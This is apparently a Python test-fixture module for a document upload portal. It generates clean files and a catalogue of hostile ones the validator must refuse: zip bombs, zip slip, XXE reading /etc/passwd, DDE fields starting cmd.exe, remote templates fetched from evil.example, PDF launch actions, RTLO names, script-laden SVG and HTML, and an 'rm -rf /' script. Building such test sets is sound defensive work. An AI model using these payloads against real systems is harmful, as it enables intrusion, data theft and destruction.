"""Files for tests, made on the spot: clean ones of every type we take, and hostile ones that must be refused."""

import io
import stat
import struct
import zipfile
import zlib

from docx import Document
from PIL import Image

from local.clamav import EICAR, PROBE
from portal.kernel import filetypes

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def zipped(parts: dict[str, bytes], **first_options) -> bytes:
    """A zip with these parts in this order; the first one may be stored unpacked."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for number, (name, content) in enumerate(parts.items()):
            archive.writestr(name, content, **(first_options if number == 0 else {}))
    return out.getvalue()


def _content_types(main: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types"><Override PartName="/main.xml" ContentType="{main}"/></Types>'
    ).encode()


def ooxml(filetype=filetypes.DOCX, main: str | None = None, **parts: bytes) -> bytes:
    """A docx or xlsx of the least possible parts, with `parts` (name with `__` for `/`, `_dot_` for `.`) added."""
    extra = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    main = main or f"{filetype.media_type}.main+xml"
    return zipped({"[Content_Types].xml": _content_types(main), "word/document.xml": b"<document/>"} | extra)


def odf(filetype=filetypes.ODT, parts: dict[str, bytes] | None = None) -> bytes:
    return zipped(
        {"mimetype": filetype.media_type.encode(), "content.xml": b"<content/>"} | (parts or {}),
        compress_type=zipfile.ZIP_STORED,
    )


def word() -> bytes:
    """A docx as a real program writes it."""
    out = io.BytesIO()
    document = Document()
    document.add_heading("Plan van aanpak")
    document.add_paragraph("Wij beginnen op maandag. " * 200)
    document.save(out)
    return out.getvalue()


def picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "teal").save(out, kind)
    return out.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A small png whose header says it is this large."""

    def piece(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 99)
    return b"\x89PNG\r\n\x1a\n" + piece(b"IHDR", header) + piece(b"IDAT", pixels) + piece(b"IEND", b"")


def jpeg_of(width: int, height: int, before: bytes = b"") -> bytes:
    """A jpeg whose frame header says it is this large, with segments before it."""
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\0"
    jfif = b"\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    return b"\xff\xd8" + jfif + before + b"\xff\xc0" + struct.pack(">H", len(frame) + 2) + frame + b"\xff\xd9"


def clean() -> dict[str, bytes]:
    """Name and content of files that must be taken, at least one of every type."""
    segment = b"\xff\xe1" + struct.pack(">H", 60_002) + b"\0" * 60_000
    return {
        "begroting 2027 (v1.2).pdf": PDF,
        "offerte.docx.pdf": PDF,
        "plan.docx": word(),
        "klein.docx": ooxml(),
        "uren.xlsx": ooxml(filetypes.XLSX),
        "brief.odt": odf(),
        "kosten.ods": odf(filetypes.ODS),
        "foto.PNG": picture("PNG"),
        "foto.jpg": picture("JPEG"),
        "lange aanloop.jpeg": jpeg_of(4000, 3000, before=segment * 3),
        "notitie.txt": "Zoë vraagt € 12.500\n".encode(),
        "oud.txt": "Zoë vraagt € 12.500\n".encode("cp1252"),
        "MZ.csv": b"MZ-nummer;naam\n1;Kampen\n",
    }


def _encrypted() -> bytes:
    """A docx whose first part says it is encrypted: the flag in both of its headers."""
    content = bytearray(ooxml())
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def _symlink() -> bytes:
    out = io.BytesIO(ooxml())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/settings.xml")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _lying_bomb() -> bytes:
    """A part of 40 MB whose headers say 10 bytes."""
    content = bytearray(ooxml(word__media__a_dot_bin=b"\0" * 40_000_000))
    real, small = struct.pack("<I", 40_000_000), struct.pack("<I", 10)
    assert content.count(real) == 2
    return bytes(content.replace(real, small))


_XXE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'


_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def relations(kind: str, target: str, mode: str = ' TargetMode="External"', before: int = 0) -> bytes:
    """The relations of a part: `before` links, and then this one."""
    links = "".join(f'<Relationship Id="l{n}" Type="{_RELATIONS}/hyperlink" Target="https://voorbeeld.example/{n}" '
                    'TargetMode="External"/>' for n in range(before))
    return (f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{links}'
            f'<Relationship Id="r1" Type="{_RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>').encode()


def field(*pieces: str, extra: str = "") -> bytes:
    """A Word text with one field whose code is spread over these pieces."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (f'<w:document xmlns:w="{_W}"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar '
            f'w:fldCharType="separate"/></w:r><w:r><w:t>DDEAUTO</w:t></w:r>{extra}</w:p></w:document>').encode()


def open_document(body: str) -> bytes:
    """The content of an OpenDocument file with this in it."""
    names = "".join(f' xmlns:{p}="urn:oasis:names:tc:opendocument:xmlns:{p}:1.0"' for p in
                    ("office", "draw", "text", "meta", "script"))
    return f'<office:document{names} xmlns:xlink="http://www.w3.org/1999/xlink">{body}</office:document>'.encode()


def reaching_out() -> dict[str, tuple[str, bytes]]:
    """Office files that fetch or start something when they are opened."""
    evil = "https://evil.example/x.dotm"
    rels = {"template": ("word__settings_dot_xml", "attachedTemplate"), "frame": ("word__webSettings_dot_xml", "frame"),
            "subdocument": ("word__document_dot_xml", "subDocument"), "linked picture": ("word__document_dot_xml", "image"),
            "linked object": ("word__document_dot_xml", "oleObject")}
    found = {f"{what} elsewhere": ("plan.docx", ooxml(**{part.replace("word__", "word___rels__") + "_dot_rels": relations(
        kind, evil)})) for what, (part, kind) in rels.items()}
    return found | {
        "template on a share": ("plan.docx", ooxml(word___rels__settings_dot_xml_dot_rels=relations(
            "attachedTemplate", "file://evil.example/x.dotm", before=3_000))),
        "template in a sheet": ("uren.xlsx", ooxml(filetypes.XLSX, xl___rels__workbook_dot_xml_dot_rels=relations(
            "attachedTemplate", evil, ' TargetMode="EXTERNAL"'))),
        "ole object": ("plan.docx", ooxml(word__embeddings__oleObject1_dot_bin=b"\xd0\xcf\x11\xe0")),
        "ole object under another name": ("plan.docx", ooxml(word___rels__document_dot_xml_dot_rels=relations(
            "oleObject", "embeddings/plan.bin", ""))),
        "activex": ("plan.docx", ooxml(word__activeX__activeX1_dot_xml=b"<a/>")),
        "link to another workbook": ("uren.xlsx", ooxml(filetypes.XLSX, xl__externalLinks__externalLink1_dot_xml=b"<e/>")),
        "dde": ("plan.docx", ooxml(word__header2_dot_xml=field(" DDE", "AUTO c:\\x\\cmd.exe"))),
        "dde in a simple field": ("plan.docx", ooxml(word__footnotes_dot_xml=field(
            "PAGE", extra='<w:fldSimple w:instr=" dde cmd /k"/>'))),
        "dde around another field": ("plan.docx", ooxml(word__tekst_dot_xml=field(
            "DDE cmd ", extra='<w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText>'))),
        "odt frame elsewhere": ("brief.odt", odf(parts={"content.xml": open_document(
            '<draw:floating-frame xlink:href="https://evil.example/"/>')})),
        "odt picture elsewhere": ("brief.odt", odf(parts={"styles.xml": open_document(
            '<draw:image xlink:href="//evil.example/x.png"/>')})),
        "odt section of another file": ("brief.odt", odf(parts={"content.xml": open_document(
            '<text:section-source xlink:href="../ander.odt"/>')})),
        "odt template elsewhere": ("brief.odt", odf(parts={"meta.xml": open_document(
            f'<meta:template xlink:href="{evil}"/>')})),
        "odt ole object": ("brief.odt", odf(parts={"content.xml": open_document(
            '<draw:object-ole xlink:href="./Object 1"/>')})),
        "ods dde": ("kosten.ods", odf(filetypes.ODS, {"content.xml": open_document(
            '<office:dde-source office:dde-application="cmd"/>')})),
        "odt macro behind a button": ("brief.odt", odf(parts={"content.xml": open_document(
            '<script:event-listener xlink:href="vnd.sun.star.script:a.b?language=Basic"/>')})),
    }


def staying_in() -> dict[str, tuple[str, bytes]]:
    """Office files with links that somebody clicks on, and with what stands in the file itself."""
    return {
        "links": ("plan.docx", ooxml(word___rels__document_dot_xml_dot_rels=relations(
            "hyperlink", "https://voorbeeld.example/", before=20_000))),
        "chart with its numbers": ("plan.docx", ooxml(word__charts___rels__chart1_dot_xml_dot_rels=relations(
            "package", "../embeddings/Microsoft_Excel_Sheet.xlsx", ""))),
        "fields": ("plan.docx", ooxml(word__header1_dot_xml=field("PAGE", " \\* MERGEFORMAT"))),
        "odt": ("brief.odt", odf(parts={
            "content.xml": open_document('<text:a xlink:href="https://voorbeeld.example/">x</text:a>'
                                         '<draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/>'),
            "meta.xml": open_document('<meta:template xlink:href="../../Sjablonen/brief.ott"/>')})),
    }


def hostile() -> dict[str, tuple[str, bytes]]:
    """What it is -> name and content. Every one must be refused."""
    macro_main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return reaching_out() | {
        "zip bomb": ("bom.docx", ooxml(word__media__a_dot_bin=b"\0" * 60_000_000)),
        "zip bomb that lies about its size": ("bom.docx", _lying_bomb()),
        "symlink in zip": ("koppeling.docx", _symlink()),
        "zip slip": ("plan.docx", ooxml(**{"..__..__etc__cron": b"x"})),
        "zip slip with backslashes": ("plan.docx", ooxml(**{"..\\..\\start": b"x"})),
        "xxe in docx": ("plan.docx", ooxml(word__settings_dot_xml=_XXE)),
        "xxe in utf-16": ("plan.docx", ooxml(word__settings_dot_xml=_XXE.decode().encode("utf-16"))),
        "xxe after a long comment": (
            "plan.docx",
            ooxml(word__s_dot_xml=_XXE.replace(b"<!DOC", b"<!--" + b"x" * 99_999 + b"--><!DOC")),
        ),
        "xxe in odt": ("brief.odt", odf(parts={"styles.xml": _XXE})),
        "pdf that is a zip too": ("verslag.pdf", PDF + zipped({"x.txt": b"x"})),
        "png with a zip behind it": ("foto.png", picture("PNG") + zipped({"x.txt": b"x"})),
        "jpeg with a zip behind it": ("foto.jpg", picture("JPEG") + zipped({"x.txt": b"x"})),
        "zip behind a program": ("plan.docx", b"MZ\x90\0" + b"\0" * 60 + ooxml()),
        "svg with script": ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        "svg called png": ("logo.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        "pixel flood png": ("foto.png", png_of(60_000, 60_000)),
        "pixel flood jpeg": ("foto.jpg", jpeg_of(65_000, 65_000)),
        "rtlo name": ("factuur\u202efdp.exe", b"MZ\x90\0" + b"\0" * 60),
        "rtlo name with a clean end": ("factuur\u202exe.pdf", PDF),
        "control character in name": ("factuur\x00.pdf", PDF),
        "program called pdf": ("factuur.pdf", b"MZ\x90\0" + b"\0" * 200),
        "program": ("factuur.exe", b"MZ\x90\0" + b"\0" * 200),
        "double extension": ("factuur.exe.pdf", PDF),
        "page called txt": ("lees.txt", b"<html><script>alert(1)</script></html>"),
        "page with a text in front": ("lees.txt", b"Beste lezer,\n<SCRIPT src=//x></script>"),
        "page": ("lees.html", b"<html></html>"),
        "script called txt": ("lees.txt", b"#!/bin/sh\nrm -rf /\n"),
        "binary behind a text": ("lees.csv", b"naam;bedrag\n" * 9_000 + b"\0\x01\x02"),
        "macros": ("plan.docm", ooxml()),
        "macros called docx": ("plan.docx", ooxml(word__vbaProject_dot_bin=b"x")),
        "macro type called docx": ("plan.docx", ooxml(main=macro_main)),
        "macros in a sheet": ("uren.xlsx", ooxml(filetypes.XLSX, xl__macrosheets__sheet1_dot_xml=b"<s/>")),
        "macros in odt": ("brief.odt", odf(parts={"Basic/Standard/Module1.xml": b"<m/>"})),
        "program in docx": ("plan.docx", ooxml(word__embeddings__start_dot_exe=b"MZ")),
        "password": ("plan.docx", _encrypted()),
        "sheet called docx": ("plan.docx", ooxml(filetypes.XLSX)),
        "zip called docx": ("plan.docx", zipped({"x.txt": b"x"})),
        "odt called ods": ("kosten.ods", odf()),
        "template called odt": (
            "brief.odt",
            zipped(
                {"mimetype": filetypes.ODT.media_type.encode() + b"-template", "content.xml": b"<c/>"},
                compress_type=zipfile.ZIP_STORED,
            ),
        ),
        "cut off docx": ("plan.docx", word()[:-500]),
        "pdf that starts a program": ("plan.pdf", PDF.replace(b"/Type", b"/OpenAction << /S /Launch /F (x) >> /Type")),
        "pdf that hides it in hex": ("plan.pdf", PDF.replace(b"/Type", b"/OpenAction << /S /L#61unch >> /Type")),
        "pdf with a program in it": (
            "plan.pdf",
            PDF.replace(b"/Type", b"/EF << /F 2 0 R >> /UF (start.exe) /Type"),
        ),
        "pdf not at the start": ("plan.pdf", b"<html>" + PDF),
        "empty": ("leeg.pdf", b""),
        "no extension": ("leesmij", b"tekst"),
        "old office": ("brief.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    }


def infected() -> dict[str, tuple[str, bytes]]:
    """Good files but for what only the virus scanner knows."""
    return {
        "eicar": ("virus.txt", EICAR),
        "probe": ("virus.pdf", PDF + PROBE + b"\n%%EOF\n"),
        "eicar packed in docx": ("virus.docx", ooxml(word__media__image1_dot_bin=EICAR)),
        "eicar twice packed": ("virus.docx", ooxml(word__embeddings__a_dot_bin=zipped({"x.txt": EICAR}))),
    }
